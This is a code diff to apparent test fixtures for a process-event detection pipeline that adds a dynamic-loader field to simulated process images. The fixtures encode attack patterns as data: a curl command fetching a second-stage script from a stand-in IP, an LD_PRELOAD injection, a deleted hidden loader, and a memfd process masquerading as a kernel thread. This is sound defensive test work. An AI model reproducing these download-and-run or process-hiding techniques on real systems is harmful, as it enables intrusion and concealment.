@@ -20,6 +20,7 @@ from pipeline.events import (
     File,
     Fork,
     HostFacts,
+    Loader,
     Namespaces,
     ProcessEvent,
     Script,
@@ -72,14 +73,18 @@ SYSTEMD = Image("systemd", "/usr/lib/systemd/systemd", ("/sbin/init",))
 NGINX = Image("nginx", "/usr/sbin/nginx", ("nginx", "-g", "daemon off;"))
 BASH = Image("bash", "/usr/bin/bash", ("bash", "-i"))
 CURL_FILE = File(1234567, 8 << 20 | 1, 0o100755, 1, 1_700_000_000_123_456_789, 1_700_000_001_000_000_000)
-CURL = Image("curl", "/usr/bin/curl", ("curl", "http://203.0.113.50/stage2.sh", "-o", "/tmp/s"), file=CURL_FILE)
+LOADER = Loader("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", CURL_FILE._replace(inode=4321))
+CURL = Image(
+    "curl", "/usr/bin/curl", ("curl", "http://203.0.113.50/stage2.sh", "-o", "/tmp/s"), file=CURL_FILE, loader=LOADER
+)
 SCRIPT = Image(
     "deploy",
     "/usr/bin/python3.11",
     ("/usr/bin/python3", "-E", "/opt/deploy", "--token=hunter2"),
     file=File(99, 253 << 20 | 3, 0o106755, 2, 0, -1, ("upper_layer", "setuid", "setgid", "script")),
-    script=Script("/opt/deploy", "/usr/bin/python3", 77, 253 << 20 | 3, 1),
+    script=Script("/opt/deploy", "/usr/bin/python3", File(77, 253 << 20 | 3, 0o100755, 1, 3, 4, ("upper_layer",))),
     environment=("LD_PRELOAD=/tmp/x.so", "SUDO_USER=alice", "PYTHONSTARTUP=/tmp/a?password=hunter2"),
+    loader=Loader("/tmp/.x/ld.so", File(78, 253 << 20 | 3, 0o100755, 0, 5, 6, ("deleted", "upper_layer"))),
 )
 MEMFD = Image("3", "memfd:x", ("[kworker/0:1]",), file=File(7, 1, 0o100777, 0, 5, 5, ("memfd",)))
 
